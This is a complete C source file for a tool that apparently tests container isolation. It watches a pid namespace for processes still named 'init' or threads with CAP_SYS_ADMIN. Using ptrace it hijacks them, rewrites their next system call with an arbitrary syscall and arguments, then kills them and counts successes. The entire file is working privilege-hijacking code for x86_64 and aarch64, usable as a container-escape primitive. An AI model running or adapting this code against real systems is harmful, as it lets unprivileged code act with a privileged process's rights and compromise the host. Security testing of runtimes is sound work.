/*
 * inject NUMBER FIRST SECOND MILLISECONDS: traces every new process of its pid namespace that is still a copy of init,
 * and every thread with CAP_SYS_ADMIN. Replaces the next system call of each by the given one, then kills it. Prints
 * how many calls it replaced, and how many of those returned 0 or more. SIGTERM ends it early.
 */
#include <ctype.h>
#include <dirent.h>
#include <elf.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stopped;

static void stop(int number) { stopped = number; }

static long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static ssize_t read_text(const char *path, char *into, size_t size) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t length = read(fd, into, size - 1);
  close(fd);
  if (length >= 0) into[length] = '\0';
  return length;
}

/* Returns the newest process of this pid namespace, from the end of /proc/loadavg. */
static int newest(void) {
  char text[128];
  const char *last = read_text("/proc/loadavg", text, sizeof text) > 0 ? strrchr(text, ' ') : NULL;
  return last == NULL ? -1 : atoi(last);
}

static bool is_copy(int pid) {
  char path[64], comm[32];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  return read_text(path, comm, sizeof comm) > 0 && strcmp(comm, "init\n") == 0;
}

static bool is_privileged(int pid) {
  char path[64], text[4096];
  snprintf(path, sizeof path, "/proc/%d/status", pid);
  const char *permitted = read_text(path, text, sizeof text) > 0 ? strstr(text, "CapPrm:") : NULL;
  return permitted != NULL && (strtoull(permitted + 7, NULL, 16) >> 21 & 1) != 0;
}

/* Returns a thread with more privileges than a container gets, or 0. */
static int privileged_thread(void) {
  char path[64];
  int found = 0;
  DIR *processes = opendir("/proc");
  for (struct dirent *process; found == 0 && processes != NULL && (process = readdir(processes)) != NULL;) {
    if (!isdigit(process->d_name[0])) continue;
    snprintf(path, sizeof path, "/proc/%.16s/task", process->d_name);
    DIR *threads = opendir(path);
    for (struct dirent *thread; found == 0 && threads != NULL && (thread = readdir(threads)) != NULL;) {
      if (isdigit(thread->d_name[0]) && is_privileged(atoi(thread->d_name))) found = atoi(thread->d_name);
    }
    if (threads != NULL) closedir(threads);
  }
  if (processes != NULL) closedir(processes);
  return found;
}

static bool is_wanted(int pid) { return is_copy(pid) || is_privileged(pid); }

static bool call_instead(int pid, const long call[3]) {
  struct user_regs_struct regs;
  struct iovec part = {.iov_base = &regs, .iov_len = sizeof regs};
  if (ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &part) < 0) return false;
#if defined(__x86_64__)
  regs.orig_rax = (unsigned long long)call[0];
  regs.rdi = (unsigned long long)call[1];
  regs.rsi = (unsigned long long)call[2];
#elif defined(__aarch64__)
  int number = (int)call[0];
  struct iovec numbers = {.iov_base = &number, .iov_len = sizeof number};
  if (ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &numbers) < 0) return false;
  regs.regs[0] = (unsigned long long)call[1];
  regs.regs[1] = (unsigned long long)call[2];
#endif
  return ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &part) == 0;
}

static long result_of(int pid) {
  struct user_regs_struct regs;
  struct iovec part = {.iov_base = &regs, .iov_len = sizeof regs};
  if (ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &part) < 0) return -1;
#if defined(__x86_64__)
  return (long)regs.rax;
#elif defined(__aarch64__)
  return (long)regs.regs[0];
#endif
}

/* Lets it run until it enters or leaves a system call. */
static bool step(int pid) {
  int status;
  for (unsigned tries = 0; tries < 10; tries++) {
    if (ptrace(PTRACE_SYSCALL, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) return false;
    if (WSTOPSIG(status) == (SIGTRAP | 0x80)) return true;
  }
  return false;
}

/* Returns 0 if it was too late, 1 if the call was injected, 2 if the call also returned 0 or more. */
static int attack(int pid, const long call[3]) {
  int status, result = 0;
  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) < 0) return 0;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
      is_wanted(pid) && step(pid) && is_wanted(pid) && call_instead(pid, call)) {
    result = 1;
    if (step(pid) && result_of(pid) >= 0) result = 2;
  }
  if (result > 0) {
    kill(pid, SIGKILL);
    while (waitpid(pid, &status, __WALL) == pid && !WIFEXITED(status) && !WIFSIGNALED(status)) continue;
  } else {
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
  return result;
}

int main(int argc, char **argv) {
  if (argc != 5) return 2;
  const long call[3] = {atol(argv[1]), atol(argv[2]), atol(argv[3])};
  long end = now_ms() + atol(argv[4]);
  unsigned injected = 0, succeeded = 0;
  /* Both interrupt waitpid: a traced process may never stop. */
  struct sigaction action = {.sa_handler = stop};
  sigaction(SIGTERM, &action, NULL);
  sigaction(SIGALRM, &action, NULL);
  alarm((unsigned)(atol(argv[4]) / 1000 + 1));
  puts("waiting");
  fflush(stdout);
  while (!stopped && now_ms() < end) {
    int pid = newest();
    if (!is_wanted(pid) && !is_wanted(pid = privileged_thread())) continue;
    int result = attack(pid, call);
    injected += result > 0;
    succeeded += result > 1;
  }
  printf("injected %u, succeeded %u\n", injected, succeeded);
}
